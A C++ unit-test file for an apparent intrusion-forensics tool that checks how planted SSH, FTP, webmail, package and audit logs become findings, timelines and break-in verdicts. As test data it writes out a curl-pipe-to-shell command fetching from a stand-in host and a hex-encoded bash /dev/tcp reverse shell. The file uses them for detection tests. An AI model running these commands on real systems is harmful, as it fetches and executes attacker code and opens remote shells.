#include <gtest/gtest.h>

#include <algorithm>

#include "mini_root.hpp"

namespace rescue::detect {
namespace {

constexpr const char* kPasswd = "root:x:0:0:root:/root:/bin/bash\nweb:x:1000:1000::/home/web:/bin/bash\n";
constexpr std::int64_t kLogin = 1789264811;  // 2026-09-13T02:00:11Z

/// The password of web is guessed; then the intruder works for an hour.
struct EnteredRoot : MiniRoot {
  EnteredRoot() {
    write("/etc/passwd", kPasswd);
    write("/etc/shadow", "root:*:1::::::\n");
    std::string log;
    for (int i = 0; i < 60; ++i) {
      log += "2026-09-13T02:00:0" + std::to_string(i / 10) +
             "Z h sshd[7]: Failed password for invalid user n" + std::to_string(i % 9) +
             " from 203.0.113.45 port 22 ssh2\n";
    }
    write(
        "/var/log/auth.log",
        log + "2026-09-13T02:00:11Z h sshd[900]: Accepted password for web from 203.0.113.45 port 22 ssh2\n");
  }
};

const Json* finding_of(const Json& document, const std::string& rule) {
  const auto& findings = document.at("findings");
  const auto at =
      std::find_if(findings.begin(), findings.end(), [&](const Json& f) { return f.at("rule") == rule; });
  return at == findings.end() ? nullptr : &*at;
}

bool timeline_tells(const Json& document, const std::string& text) {
  const auto& lines = document.at("timeline");
  return std::any_of(lines.begin(), lines.end(), [&](const Json& l) { return l.at("text") == text; });
}

TEST(Commands, OfAnIntruderStandInTheChainAndTheTimeline) {
  EnteredRoot root;
  root.write("/home/web/.bash_history", "#" + std::to_string(kLogin + 60) + "\nid\n#" +
                                            std::to_string(kLogin + 90) +
                                            "\ncurl -s http://198.51.100.7/x | sh\n");
  const auto document = root.investigate();
  const auto* found = finding_of(document, "commands.download_to_shell");
  ASSERT_NE(found, nullptr);
  EXPECT_EQ(found->at("severity"), "high");
  EXPECT_EQ(found->at("account"), "web");
  EXPECT_EQ(found->at("time"), "2026-09-13T02:01:41.000Z");
  EXPECT_EQ(found->at("evidence")[0].at("line"), 4);
  EXPECT_TRUE(timeline_tells(document, "web ran: id"));
  const auto& chain = document.at("entry_vectors")[0].at("chain");
  EXPECT_NE(std::find(chain.begin(), chain.end(), found->at("id")), chain.end());
}

TEST(SideNotes, OfABreakInsTimeStandInTheTimeline) {
  EnteredRoot root;
  root.write("/var/log/dpkg.log",
             "2026-09-12 02:00:00 install vim:amd64 <none> 1\n"
             "2026-09-13 02:20:00 install nmap:amd64 <none> 7.93\n");
  root.write("/var/log/nginx/error.log",
             "2026/09/13 02:21:00 [error] 7#7: *1 open() failed, client: 203.0.113.45, server: _\n"
             "2026/09/13 02:21:00 [error] 7#7: *1 open() failed, client: 192.0.2.7, server: _\n");
  const auto document = root.investigate();
  EXPECT_TRUE(timeline_tells(document, "Package nmap:amd64: install"));
  EXPECT_FALSE(timeline_tells(document, "Package vim:amd64: install"));
  EXPECT_EQ(document.dump().find("about 192.0.2.7"), std::string::npos);
  EXPECT_NE(document.dump().find("about 203.0.113.45"), std::string::npos);
}

TEST(Commands, AreReadFromAuditWithTheirRecordsJoined) {
  EnteredRoot root;
  root.write(
      "/var/log/audit/audit.log",
      "type=SYSCALL msg=audit(1789264871.123:7): syscall=59 ppid=1 pid=20 auid=1000 uid=1000 tty=pts0\n"
      "type=EXECVE msg=audit(1789264871.123:7): argc=3 a0=\"bash\" a1=\"-c\" "
      "a2=62617368202D69203E26202F6465762F7463702F3139382E35312E3130302E372F3434343420303E2631\n"
      "type=PROCTITLE msg=audit(1789264871.123:7): proctitle=62617368\n");
  const auto document = root.investigate();
  const auto* found = finding_of(document, "commands.connects_back");
  ASSERT_NE(found, nullptr);
  EXPECT_EQ(found->at("account"), "web");
  EXPECT_EQ(found->at("evidence")[0].at("line"), 2);
}

TEST(Commands, OfAnAdministratorAccuseNobody) {
  MiniRoot root;
  root.write("/etc/passwd", kPasswd);
  root.write("/etc/shadow", "root:*:1::::::\n");
  root.write("/var/log/auth.log",
             "2026-09-13T02:00:00Z h sudo:     web : TTY=pts/0 ; PWD=/home/web ; USER=root ; "
             "COMMAND=/usr/bin/apt-get install curl\n");
  root.write("/home/web/.bash_history", "curl -fsSL https://get.example.com/install.sh | sh\nls -l\n");
  const auto document = root.investigate();
  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "none_found");
  const auto* found = finding_of(document, "commands.download_to_shell");
  ASSERT_NE(found, nullptr);
  EXPECT_EQ(found->at("severity"), "low");
  EXPECT_EQ(found->at("time"), "");
}

TEST(Logins, AGuessedFtpAccountIsABreakIn) {
  MiniRoot root;
  root.write("/etc/passwd", kPasswd);
  root.write("/etc/shadow", "root:*:1::::::\n");
  root.write("/var/log/auth.log", "2026-09-13T02:00:00Z h CRON[1]: start\n");
  std::string log;
  for (int i = 0; i < 40; ++i) {
    log += "Sun Sep 13 02:00:" + std::to_string(10 + i) + " 2026 [pid 7] [n" + std::to_string(i % 8) +
           "] FAIL LOGIN: Client \"203.0.113.45\"\n";
  }
  root.write("/var/log/vsftpd.log",
             log + "Sun Sep 13 02:01:30 2026 [pid 9] [web] OK LOGIN: Client \"203.0.113.45\"\n");
  const auto document = root.investigate();
  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "confirmed");
  ASSERT_EQ(document.at("entry_vectors").size(), 1U);
  EXPECT_EQ(document.at("entry_vectors")[0].at("title"), "The FTP password of web was guessed");
  EXPECT_EQ(document.at("verdict").at("mail_abuse").at("state"), "none_found");
}

TEST(Logins, AWebmailLogInAfterGuessingIsAWayIntoTheMail) {
  MiniRoot root;
  root.write("/etc/passwd", kPasswd);
  root.write("/etc/shadow", "root:*:1::::::\n");
  root.write("/var/log/auth.log", "2026-09-13T02:00:00Z h CRON[1]: start\n");
  root.write("/var/log/mail.log", "2026-09-13T02:00:00Z h postfix/master[1]: daemon started\n");
  std::string log;
  for (int i = 0; i < 40; ++i) {
    log += "[13-Sep-2026 02:00:" + std::to_string(10 + i) + " +0000]: <x> Failed login for n" +
           std::to_string(i % 8) + " from 203.0.113.45 in session x (error: 0)\n";
  }
  root.write("/var/log/roundcube/userlogins.log", log +
                                                      "[13-Sep-2026 02:01:30 +0000]: <y> Successful login "
                                                      "for info (ID: 1) from 203.0.113.45 in session y.\n");
  const auto document = root.investigate();
  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "none_found");
  EXPECT_EQ(document.at("verdict").at("mail_abuse").at("state"), "suspected");
  EXPECT_EQ(document.at("entry_vectors").size(), 1U);
}

}  // namespace
}  // namespace rescue::detect
